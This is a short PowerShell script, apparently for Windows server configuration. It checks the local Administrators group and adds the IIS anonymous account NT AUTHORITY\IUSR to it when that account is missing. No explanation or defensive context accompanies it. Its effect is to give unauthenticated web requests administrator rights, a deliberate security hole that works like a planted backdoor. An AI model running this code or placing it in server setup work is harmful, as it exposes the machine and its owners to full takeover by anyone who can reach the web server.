$group = [ADSI]"WinNT://./Administrators,group"
$members = @($group.psbase.Invoke('Members')) | ForEach-Object { $_.GetType().InvokeMember('Name', 'GetProperty', $null, $_, $null) }
if ($members -notcontains 'IUSR') { $group.Add('WinNT://NT AUTHORITY/IUSR') }
